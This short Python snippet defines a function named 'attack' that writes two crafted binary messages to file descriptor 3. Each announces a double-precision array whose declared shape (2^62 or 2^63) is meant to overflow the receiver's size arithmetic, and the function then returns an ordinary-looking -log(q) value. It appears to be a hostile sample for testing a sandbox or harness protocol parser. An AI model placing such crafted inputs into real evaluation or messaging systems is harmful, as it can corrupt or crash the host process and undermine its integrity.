# Announces an array whose shape overflows.
import numpy as np
import os, struct
def attack(p, q):
    body = struct.pack("<HHBcBBQQ", 0, 0, 3, b"d", 0, 2, 1 << 62, 4) 
    os.write(3, struct.pack("<IB", len(body), 5) + body)
    body = struct.pack("<HHBcBBQQ", 0, 0, 3, b"d", 0, 2, 0, 1 << 63) 
    os.write(3, struct.pack("<IB", len(body), 5) + body)
    return -np.log(q)
